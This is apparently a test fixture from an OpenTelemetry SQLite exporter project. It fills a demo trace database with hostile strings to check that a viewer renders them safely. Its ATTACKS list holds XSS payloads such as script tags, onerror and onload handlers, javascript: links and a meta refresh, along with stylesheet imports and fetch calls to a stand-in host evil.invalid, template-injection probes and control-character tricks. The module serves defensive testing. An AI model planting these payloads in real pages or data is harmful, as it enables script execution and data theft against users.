"""A recorded file in which every text attacks whoever shows it."""

from __future__ import annotations

import json
import sqlite3
from contextlib import closing
from typing import TYPE_CHECKING, Final

from otel_sqlite_exporter.demo.file import write_demo

if TYPE_CHECKING:
    from pathlib import Path

EVIL: Final = "http://evil.invalid"
ATTACKS: Final = (
    f"<script>window.pwned=1;fetch('{EVIL}/s')</script>",
    f"<img src={EVIL}/i.png onerror=window.pwned=1>",
    f"<svg onload=window.pwned=1><image href='{EVIL}/v.svg'/><use href='{EVIL}/u.svg#a'/></svg>",
    f"\"'><style>@import '{EVIL}/c.css';*{{display:none}}</style><link rel=stylesheet href={EVIL}/l.css>",
    f"' onmouseover='window.pwned=1' style='background:url({EVIL}/b)' x='",
    f"![a]({EVIL}/m.png) [b](javascript:window.pwned=1) [c](data:text/html,x) [d](/sql?q=SELECT+1) <{EVIL}/auto>",
    f"</textarea></title></script><iframe src={EVIL}/f></iframe><meta http-equiv=refresh content=0;url={EVIL}/r>",
    f"<form action={EVIL}/p><input name=q><button>go</button></form><base href={EVIL}>",
    "{{ 7*7 }}{% for x in y %}{{ config }}${7*7}<%= 7*7 %>",
    "\u202egnp.exe\u2066\x1b[31mred\x07\u2028\ufeff\x00",
    "```\n<script>window.pwned=1</script>\n```\n| a |\n|---|\n| <img src=x onerror=window.pwned=1> |",
    "*" * 4000 + "[" * 4000 + "`" * 2000 + ">" * 500,
)

_KEYS: Final = frozenset({"trace_id", "span_id", "parent_span_id", "shown_in_trace_id", "file_id", "uuid"})
_MEANINGS: Final = frozenset({"kind", "status", "otel_status", "otel_kind", "direction"})
_JSON: Final = frozenset({"attributes", "events", "links", "settings", "parts", "finish_reasons"})
_TABLES: Final = ("spans", "messages", "span_messages", "resources", "scopes", "recorders", "outboxes")


def write_hostile(path: Path, *, breaks_meanings: bool = False) -> None:
    """Write the demonstration, then put an attack into every text.

    Args:
        path: Where.
        breaks_meanings: Whether words that decide something, such as a span's kind, and JSON are broken as well.
    """
    write_demo(path, days=2)
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.create_function("attack", 1, lambda number: ATTACKS[number % len(ATTACKS)])
        connection.create_function("attack_json", 2, _attack_json)
        connection.execute(
            "INSERT INTO outboxes (name, destination, created_unix_nano, last_error) VALUES ('a', 'b', 1, 'c')"
        )
        for trigger in connection.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            connection.execute(f"DROP TRIGGER {trigger[0]}")
        for table in _TABLES:
            _attack_table(connection, table, breaks_meanings=breaks_meanings)
        connection.execute("UPDATE usage SET model = model || attack(day), provider = attack(day + 1)")


def _attack_table(connection: sqlite3.Connection, table: str, *, breaks_meanings: bool) -> None:
    key = "rowid" if table not in {"span_messages", "outboxes"} else "1"
    for _, name, kind, *_ in connection.execute(f"PRAGMA table_info({table})").fetchall():
        if kind != "TEXT" or name in _KEYS or (name in _MEANINGS and not breaks_meanings) or name == "direction":
            continue
        if name in _JSON and not breaks_meanings:
            value = f"attack_json({key}, {name})"
        elif table in {"resources", "scopes", "outboxes"}:
            value = f"attack({key}) || {key}"
        else:
            value = f"CASE WHEN {name} IS NOT NULL THEN attack({key} + {len(name)}) END"
        connection.execute(f"UPDATE {table} SET {name} = {value}")


def _attack_json(number: int, text: str | None) -> str | None:
    if text is None:
        return None
    return json.dumps(_attacked(json.loads(text), number))


def _attacked(value: object, number: int) -> object:
    """Put attacks into every text of JSON, but for what says of which type a part is."""
    if isinstance(value, dict):
        return {
            key: item if key == "type" else _attacked(item, number + index)
            for index, (key, item) in enumerate(value.items())
        } | {ATTACKS[number % len(ATTACKS)]: "<script>window.pwned=1</script>"}
    if isinstance(value, list):
        return [_attacked(item, number + index) for index, item in enumerate(value)]
    return ATTACKS[number % len(ATTACKS)] if isinstance(value, str) else value
